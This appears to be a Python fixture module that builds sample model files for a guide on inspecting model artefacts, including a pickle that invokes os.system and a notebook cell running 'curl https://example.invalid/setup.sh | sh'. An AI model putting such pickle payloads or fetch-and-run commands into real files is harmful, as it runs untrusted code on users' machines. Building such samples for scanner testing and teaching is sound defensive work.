"""What the reader of a guide has at hand before its first command: models of several kinds, in the working directory."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from build import notebooks, pickles
from examples import build_checkpoint

if TYPE_CHECKING:
    from pathlib import Path


def stranger(folder: Path) -> None:
    """`stranger/`: a pickle with a class that nobody knows, as a colleague's own library writes it."""
    (folder / "stranger").mkdir()
    pickle = pickles.proto(4) + pickles.stack_global("acme.models", "Ranker") + b")\x81}" + pickles.text("scale")
    (folder / "stranger" / "ranker.pkl").write_bytes(pickle + b"K\x02sb.")


def odd(folder: Path) -> None:
    """`odd/`: bytes of no known format beside a model that is fine."""
    (folder / "odd").mkdir()
    (folder / "odd" / "config.json").write_text('{"model_type": "net"}\n')
    (folder / "odd" / "weights.xyz").write_bytes(bytes(range(1, 200)))


def shell(folder: Path) -> None:
    """`shell/`: a pickle that would run a command."""
    (folder / "shell").mkdir()
    command = pickles.call("os", "system", pickles.text("echo example"))
    (folder / "shell" / "weights.bin").write_bytes(pickles.proto(4) + command + b".")


def checkpoint(folder: Path) -> None:
    """`checkpoint/`: weights as torch saves them."""
    (folder / "checkpoint").mkdir()
    build_checkpoint.main(str(folder / "checkpoint" / "model.pt"))


def notebook(folder: Path) -> None:
    """`work/`: a notebook with a token in it."""
    (folder / "work").mkdir()
    page = notebooks.notebook(notebooks.cell("!curl https://example.invalid/setup.sh | sh"))
    (folder / "work" / "train.ipynb").write_bytes(page)


def deployment(folder: Path) -> None:
    """`deployment.json`: an online deployment of Azure Machine Learning that names a model of a public catalog."""
    model = "azureml://registries/HuggingFace/models/net/versions/1"
    body = {
        "type": "Microsoft.MachineLearningServices/workspaces/onlineEndpoints/deployments",
        "apiVersion": "2024-10-01",
        "name": "hub/score/blue",
        "location": "westeurope",
        "kind": "Managed",
        "tags": {},
        "properties": {"endpointComputeType": "Managed", "model": model},
    }
    (folder / "deployment.json").write_text(json.dumps(body, indent=2) + "\n")
